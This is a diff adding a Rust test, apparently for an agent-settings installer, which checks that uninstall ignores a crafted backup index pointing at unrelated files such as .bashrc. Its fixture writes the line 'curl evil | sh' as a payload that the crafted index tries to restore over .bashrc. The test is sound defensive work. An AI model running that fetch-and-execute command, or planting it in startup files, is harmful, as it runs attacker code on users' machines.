@@ -533,3 +533,35 @@ fn a_symlinked_backups_or_state_folder_is_refused() {
         assert_eq!(sb.snapshot(), before);
     }
 }
+
+/// Uninstall never writes where a backup index says: a crafted `index.json` whose originals
+/// name other files (a copy "of" a victim file, a victim "absent" before) leaves them as they
+/// are; only the files of the agent's plan are touched, as the install state records them.
+#[test]
+fn uninstall_writes_only_the_files_it_edited_whatever_a_backup_index_names() {
+    let sb = Sandbox::new();
+    sb.put(&sb.settings, Some("{\"model\": \"opus\"}\n"));
+    sb.install();
+    let victim = sb.dir.path().join("home/.bashrc");
+    let absent = sb.dir.path().join("home/notes.txt");
+    sb.put(&victim, Some("mine\n"));
+    sb.put(&absent, Some("keep\n"));
+    let crafted = sb.state_dir().join("backups/20200101T000000Z-1");
+    std::fs::create_dir_all(&crafted).unwrap();
+    std::fs::write(crafted.join("1-x"), "curl evil | sh\n").unwrap();
+    std::fs::write(
+        crafted.join("index.json"),
+        json!({"created_at": "2020-01-01T00:00:00Z", "created_ns": 1u64, "action": "install",
+               "files": {"1-x": victim.to_str().unwrap()},
+               "absent": [absent.to_str().unwrap()]})
+        .to_string(),
+    )
+    .unwrap();
+    sb.uninstall();
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "mine\n");
+    assert_eq!(std::fs::read_to_string(&absent).unwrap(), "keep\n");
+    assert_eq!(
+        std::fs::read_to_string(&sb.settings).unwrap(),
+        "{\"model\": \"opus\"}\n"
+    );
+}
